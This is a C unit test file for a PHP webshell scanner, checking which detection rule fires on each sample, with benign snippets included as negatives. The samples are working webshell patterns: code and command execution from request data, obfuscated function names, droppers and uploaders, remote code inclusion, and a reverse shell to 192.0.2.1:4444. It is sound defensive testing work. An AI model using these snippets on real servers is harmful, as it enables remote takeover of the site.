/*
 * test_webshell_php.c - the structural analysis of PHP: what it finds, and what it leaves alone.
 *
 * Every sample ends the script with its first statement, so that none does anything when a server runs it; the analysis
 * looks at what follows all the same.
 */
#include "base/str.h"
#include "webshell/scan.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

static struct sw_script_scanner *scanner;

static int setup(void **state)
{
    (void)state;
    return sw_script_prepare() == 0 ? sw_script_scanner_new(&scanner, NULL) : -1;
}

static int teardown(void **state)
{
    (void)state;
    sw_script_scanner_free(scanner);
    return 0;
}

/* The id of the rule that a script is found by, or "". */
static const char *found(const char *code)
{
    static char id[64];
    char text[8192];
    int n = snprintf(text, sizeof text, "<?php exit; %s", code);
    struct sw_script_result result;
    assert_int_equal(sw_script_scan(scanner, "php", SW_STR("test.php"), sw_strn(text, (size_t)n), &result), 0);
    struct sw_str rule = result.count > 0 ? result.finds[0].rule->id : SW_STR("");
    (void)snprintf(id, sizeof id, "%.*s", SW_STR_ARG(rule));
    return id;
}

struct sample {
    const char *rule; /* without "webshell-"; "" for none */
    const char *code;
};

static void check(const struct sample *samples, size_t count)
{
    unsigned wrong = 0;
    for (size_t i = 0; i < count; i++) {
        const char *id = found(samples[i].code);
        const char *want = samples[i].rule;
        const char *have = strncmp(id, "webshell-", 9) == 0 ? id + 9 : id;
        if (strcmp(have, want) == 0)
            continue;
        print_error("%s\n    is %s, should be %s\n", samples[i].code, have[0] ? have : "nothing",
                    want[0] ? want : "nothing");
        wrong++;
    }
    assert_int_equal(wrong, 0);
}

#define CHECK(samples) check(samples, sizeof(samples) / sizeof(samples)[0])

static void test_code(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"code-from-request", "eval($_POST['a']);"},
        {"code-from-request", "@eval(base64_decode($_REQUEST[a]));"},
        {"code-from-request", "$a = $_GET['a']; $b = trim($a); assert($b);"},
        {"code-from-request", "eval(\"return {$_COOKIE['x']};\");"},
        {"code-from-request", "$f = create_function('', $_POST['c']); $f();"},
        {"code-from-request", "preg_replace('/.*/e', $_POST['c'], '');"},
        {"code-from-request", "preg_replace(\"/(.*)/e\", '\\\\1', $_POST['c']);"},
        {"code-from-request", "eval(file_get_contents('php://input'));"},
        {"code-from-request", "foreach ($_POST as $k => $v) eval($v);"},
        {"code-from-request", "function run($x) { return eval($x); } run($_POST['a']);"},
        {"code-from-request",
         "class A { public $c; function __construct($c) { $this->c = $c; eval($this->c); } } new A($_POST['a']);"},
        {"code-from-request", "extract($_POST); eval($anything);"},
        {"code-from-request", "if ($_GET['k']) { $x = $_POST['c']; } eval($x);"},
        {"code-from-request", "$x = 'a'; if (isset($_GET['k'])) $x = $_GET['k']; else $x = ''; eval($x);"},
        {"code-from-request", "include 'php://input';"},
        {"code-from-request", "$h = fopen('php://input', 'r'); eval(fread($h, 1000));"},
        {"", "eval('return 1 + 1;');"},
        {"", "assert($x instanceof Foo); assert(is_string($_GET['a']));"},
        {"", "echo preg_replace('/[^a-z]/', '', $_GET['a']);"},
        {"", "$x = intval($_GET['a']); eval('return ' . $x . ';');"},
    };
    CHECK(samples);
}

static void test_command(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"command-from-request", "system($_GET['c']);"},
        {"command-from-request", "echo `$_GET[c]`;"},
        {"command-from-request", "passthru('ping ' . $_POST['host']);"},
        {"command-from-request", "$p = proc_open($_REQUEST['c'], array(), $pipes);"},
        {"command-from-request", "exec($_SERVER['HTTP_USER_AGENT'], $out); print_r($out);"},
        {"command-from-request", "foreach (getallheaders() as $name => $value) shell_exec($value);"},
        {"reverse-shell",
         "$s = fsockopen('192.0.2.1', 4444); proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);"},
        {"", "exec('convert ' . escapeshellarg($_POST['file']));"},
        {"", "$out = shell_exec('uptime');"},
    };
    CHECK(samples);
}

static void test_hidden_names(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"code-from-request", "$f = 'as' . 'sert'; $f($_POST['a']);"},
        {"code-from-request", "$f = strrev('tressa'); $f($_POST['a']);"},
        {"code-from-request", "$f = str_replace('x', '', 'axsxsexrt'); $f($_POST['a']);"},
        {"command-from-request", "$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET[0]);"},
        {"command-from-request", "$f = base64_decode('c3lzdGVt'); $f($_GET['c']);"},
        {"command-from-request", "('sys' . 'tem')($_GET['c']);"},
        {"command-from-request", "$a = array('sy', 'stem'); $f = implode('', $a); $f($_GET['c']);"},
        {"command-from-request",
         "$l = 'abcdefghijklmnopqrstuvwxyz'; $f = $l[18].$l[24].$l[18].$l[19].$l[4].$l[12]; $f($_GET['c']);"},
        {"command-from-request", "$f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_GET['c']);"},
        {"command-from-request", "${'a'} = 'system'; $a($_GET['c']);"},
        {"command-from-request", "$f = ~\"\\x8c\\x86\\x8c\\x8b\\x9a\\x92\"; $f($_GET['c']);"},
        {"command-from-request", "$f = 'SYSTEM' ^ '      '; $f($_GET['c']);"},
        {"command-from-request", "$GLOBALS['q'] = 'system'; $GLOBALS['q']($_GET['c']);"},
        {"command-from-request", "define('F', 'system'); $f = constant('F'); $f($_GET['c']);"},
        {"function-from-request", "$_GET['f']($_GET['a']);"},
        {"function-from-request", "array_map($_GET['f'], array($_GET['a']));"},
        {"", "$f = 'strtoupper'; echo $f($_GET['a']);"},
        {"", "$action = 'do_' . $_GET['action']; if (function_exists($action)) $action();"},
    };
    CHECK(samples);
}

static void test_callbacks(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"code-from-request", "array_map('assert', array($_POST['a']));"},
        {"code-from-request", "usort($_POST['a'], 'assert');"},
        {"command-from-request", "call_user_func('system', $_GET['c']);"},
        {"command-from-request", "register_shutdown_function('system', $_GET['c']);"},
        {"command-from-request", "array_filter(array($_GET['c']), 'system');"},
        {"", "usort($list, 'strcmp'); array_map('trim', $_POST);"},
        {"", "ob_start('ob_gzhandler');"},
        {"", "array_map(function ($x) { return htmlspecialchars($x); }, $_POST);"},
    };
    CHECK(samples);
}

static void test_decoded(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        /* eval($_POST['a']); in base64 */
        {"code-from-request", "eval(base64_decode('ZXZhbCgkX1BPU1RbJ2EnXSk7'));"},
        {"hidden-code", "eval(base64_decode('ZWNobyAiaGVsbG8iOyBlY2hvIDE7'));"},
        {"hidden-code", "eval(gzinflate(base64_decode($x)));"},
        {"hidden-code", "eval(str_rot13('rpub 1; rpub 2;'));"},
        {"code-from-remote", "eval(file_get_contents('http://192.0.2.1/x.txt'));"},
        {"code-from-remote", "include 'http://192.0.2.1/x.txt';"},
        {"code-from-file", "include 'images/logo.jpg';"},
        {"", "echo base64_decode('aGVsbG8gd29ybGQ=');"},
        {"", "include 'lib/functions.php'; include $file;"},
    };
    CHECK(samples);
}

static void test_files(void **state)
{
    (void)state;
    static const struct sample samples[] = {
        {"dropper", "file_put_contents('x.php', $_POST['c']);"},
        {"dropper", "$h = fopen($_POST['name'], 'w'); fwrite($h, $_POST['content']);"},
        {"dropper", "file_put_contents('x.php', base64_decode('PD9waHAgZWNobyAxOw=='));"},
        {"uploader", "move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);"},
        {"file-manager", "unlink($_GET['d']); rename($_GET['a'], 'b'); readfile($_GET['f']); mkdir($_GET['n']);"},
        {"sql-console", "mysql_query($_POST['sql']);"},
        {"include-from-request", "include($_GET['page']);"},
        {"", "include 'pages/' . $_GET['page'] . '.html';"},
        {"", "file_put_contents('cache/' . md5($_GET['a']) . '.html', $content);"},
        {"", "$to = '/uploads/' . md5(time()) . '.jpg'; move_uploaded_file($_FILES['f']['tmp_name'], $to);"},
    };
    CHECK(samples);
}

static void test_lines(void **state)
{
    (void)state;
    struct sw_script_result result;
    struct sw_str text = SW_STR("<html>\n<?php exit;\n// a comment\n$a = 1;\n  eval($_POST['x']); ?>\n</html>");
    assert_int_equal(sw_script_scan(scanner, "php", SW_STR("test.php"), text, &result), 0);
    assert_int_equal(result.count, 1);
    assert_int_equal(result.finds[0].line, 5);
    assert_true(sw_str_eq(result.finds[0].text, SW_STR("eval($_POST['x']); ?>")));
    assert_true(result.finds[0].score >= 95);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_code),      cmocka_unit_test(test_command), cmocka_unit_test(test_hidden_names),
        cmocka_unit_test(test_callbacks), cmocka_unit_test(test_decoded), cmocka_unit_test(test_files),
        cmocka_unit_test(test_lines),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
